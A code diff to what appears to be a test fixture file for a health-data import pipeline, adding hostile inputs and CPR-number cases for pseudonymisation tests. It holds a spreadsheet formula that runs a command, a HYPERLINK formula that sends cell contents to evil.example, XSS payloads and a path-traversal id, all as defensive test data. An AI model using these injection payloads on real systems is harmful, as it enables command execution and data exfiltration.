@@ -21,7 +21,12 @@ FORMULA = "=cmd|' /C calc'!A0"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1;"klik")'
 SCRIPT = "<script>alert(1)</script>"
 IMG = "<img src=x onerror=alert(1)>"
-EXTRACT_ID = "../../../tmp/evil-extract<script>alert(2)</script>"
+# Refused since issue 13 (extract_id: a short safe token): see test_issue13_attacks.py.
+PATH_LIKE_EXTRACT_ID = "../../../tmp/evil-extract<script>alert(2)</script>"
+# A well-formed id that holds a CPR number (issue 13, 3): pseudonymised wherever it is stored.
+EXTRACT_ID = "DMDB-1505702223"
+# The delivery folder's name holds a CPR number too (of a patient in the cpr column).
+DELIVERY_NAME = "DMDB-0807580128-hostile"
 
 # Department codes a delivery might carry: none of them may steer a path. Each gets a patient
 # with a deviation, so each gets its own deviation list and dashboard folder.
@@ -74,6 +79,10 @@ HOSTILE = {
         f"{HYPERLINK};L01AA01;x;1;mg;1",                    # malformed; record starts with a formula
         f"{FORMULA};L01AA01;y;1;mg;1",                      # orphan; record starts with a formula
     ],
+}
+# Whole files replaced: an extra header column whose name holds a CPR number (issue 13, 3).
+HOSTILE_REPLACE = {
+    "anthropometrics": ["cpr;measure_date;height_cm;weight_kg;pt1505702223", "1203614417;08-02-2025;181;86,5;x"],
 }
 MANIFEST = {"extract_id": EXTRACT_ID, "extracted_at": "2025-12-01"}
 
